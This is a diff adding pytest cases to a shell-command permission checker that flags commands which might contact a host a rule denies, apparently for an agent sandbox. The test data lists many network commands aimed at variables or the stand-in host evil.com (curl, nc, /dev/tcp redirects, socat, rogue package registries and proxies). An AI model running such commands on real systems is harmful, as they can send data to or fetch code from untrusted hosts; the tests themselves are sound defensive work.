@@ -225,3 +225,52 @@ def test_variables_that_decide_what_runs_are_noticed_however_they_are_set(
 def test_unsetting_what_programs_and_settings_depend_on_is_asked_about(name: str) -> None:
     assert decide_shell(f"unset {name}; git status", POLICY).verdict == "ask"
     assert decide_shell("unset x; ls", POLICY).verdict == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *('curl "$x"', "curl $x", "curl $x.evil.com", 'curl "evil$x"', 'curl "https://$x"'),
+        *('curl "https://$x/y"', 'curl "https://good.com$x/"', 'curl "https://good.com:$x/"'),
+        *('curl "https://$u@good.com"', "curl -K conf", "curl -sKconf", "curl --url @urls"),
+        *('curl -x "$p" good.com', 'curl --resolve "good.com:443:$x" https://good.com'),
+        *('curl -s"$x" good.com', "cat urls | xargs curl", "wget -i urls", 'wget "http://$h/x"'),
+        *('http GET "$x"', 'nc "$h" 80', 'ssh "$h"', 'ssh -J "$j" good.com', 'scp a "$h:b"'),
+        *('ssh -o HostName="$h" good.com', 'git clone "$x"', 'git clone "git@$h:y"'),
+        *('git push "$remote"', 'git remote add o "$x"', "echo a > /dev/tcp/$h/80", 'exec 3<>"$x"'),
+        *('socat - "TCP:$h:80"', 'socat - "$x"', "https_proxy=$x curl good.com", 'ping "$h"'),
+        *('export http_proxy="$x"; npm ci', 'h=$(cat h); curl "$h/x"', "redis-cli -h evil.com"),
+        *("psql -h evil.com", 'psql "host=evil.com dbname=x"', "psql postgres://u@evil.com/db"),
+        *("docker pull evil.com:5000/x", "npm i --registry evil.com", "whois evil.com"),
+        *('pip install --index-url "https://$h/simple" x', "for h in $(cat h); do curl $h; done"),
+    ],
+)
+def test_a_host_that_is_not_known_is_asked_about_if_a_rule_denies_one(command: str) -> None:
+    assert decide_shell(command, NOT_EVIL).verdict == "ask"
+    assert decide_shell(command, EVERYTHING).verdict == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *('curl "https://good.com/$x"', 'curl "good.com/$x"', 'curl -H "$h" https://good.com'),
+        *('curl -d "$x" -o "$y" https://good.com', 'ssh good.com "ls $x"', 'ssh -i "$k" good.com'),
+        *('git push origin "$branch"', 'git -C "$d" fetch', 'git commit -m "$x"', "npm ci"),
+        *("mkdir evil.com", "sed -i s/evil.com/x/ a", 'git commit -m "evil.com is bad"'),
+        *("for h in a.com b.com; do curl $h/x; done", "echo a > out-$x", "socat tcp-l:1 -"),
+    ],
+)
+def test_a_rule_that_denies_a_host_asks_about_nothing_that_connects_elsewhere(command: str) -> None:
+    assert decide_shell(command, NOT_EVIL).verdict == "allow"
+
+
+def test_an_unknown_path_is_asked_about_if_a_rule_denies_one_of_that_host() -> None:
+    policy = msgspec.structs.replace(EVERYTHING, deny=rules("url(evil.com/secret)"))
+    assert decide_shell('curl "https://evil.com/$x"', policy).verdict == "ask"
+    assert decide_shell('curl "evil.com/public/$x"', policy).verdict == "ask"
+    assert decide_shell('curl "https://good.com/$x"', policy).verdict == "allow"
+
+
+def test_the_sandbox_itself_keeps_confined_commands_from_denied_hosts() -> None:
+    policy = msgspec.structs.replace(NOT_EVIL, confined=True)
+    assert decide_shell('curl "$x"', policy).verdict == "allow"
